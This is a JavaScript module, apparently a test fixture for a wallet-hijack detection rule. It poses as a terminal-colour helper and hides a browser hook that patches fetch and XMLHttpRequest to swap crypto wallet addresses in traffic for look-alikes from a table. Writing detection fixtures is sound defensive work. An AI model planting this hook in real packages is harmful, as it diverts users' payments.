'use strict';
// Modelled on the September 2025 chalk/debug compromise: in a browser, hook fetch and XMLHttpRequest and
// swap any wallet address in the traffic for the most similar one from a hard-coded table.
// The addresses below are random placeholders, not anyone's wallet.
const styles = { red: [31, 39], green: [32, 39], bold: [1, 22] };

function paint(name, s) {
  const [open, close] = styles[name];
  return `\u001b[${open}m${s}\u001b[${close}m`;
}

(function () {
  if (typeof window === 'undefined') return;
  const table = [
    '0x1d583fa5219f0b2f4df0e17619c9609b7497846d',
    '0x13780e91d7a16889234a9f650ba3be3ea4731f24',
    '0xb3fcba226710d2efc8b45e5f51fc6ecc86711a31',
    '0x375c9a9b32949692f700302458a0c56a2b286d9a',
    '0x02996bfc31acc12f02aec955f7f053f55d2261c8',
  ];

  function distance(a, b) {
    const dp = Array.from({ length: a.length + 1 }, (_, i) => [i]);
    for (let j = 1; j <= b.length; j++) dp[0][j] = j;
    for (let i = 1; i <= a.length; i++) {
      for (let j = 1; j <= b.length; j++) {
        dp[i][j] = Math.min(dp[i - 1][j] + 1, dp[i][j - 1] + 1, dp[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
      }
    }
    return dp[a.length][b.length];
  }

  function closest(address) {
    return table.reduce((best, cand) => (distance(address, cand) < distance(address, best) ? cand : best), table[0]);
  }

  function swap(text) {
    return typeof text === 'string' ? text.replace(/0x[a-fA-F0-9]{40}/g, (m) => closest(m)) : text;
  }

  const originalFetch = window.fetch;
  // ruleid: js/wallet-hijack
  window.fetch = async function (...args) {
    const res = await originalFetch.apply(this, args);
    const body = swap(await res.clone().text());
    return new Response(body, { status: res.status, statusText: res.statusText, headers: res.headers });
  };

  const originalOpen = XMLHttpRequest.prototype.open;
  const originalSend = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url, ...rest) {
    this._url = url;
    return originalOpen.call(this, method, url, ...rest);
  };
  XMLHttpRequest.prototype.send = function (body) {
    this.addEventListener('readystatechange', function () {
      if (this.readyState === 4) {
        Object.defineProperty(this, 'responseText', { value: swap(this.responseText) });
      }
    });
    return originalSend.call(this, swap(body));
  };
})();

module.exports = { paint };
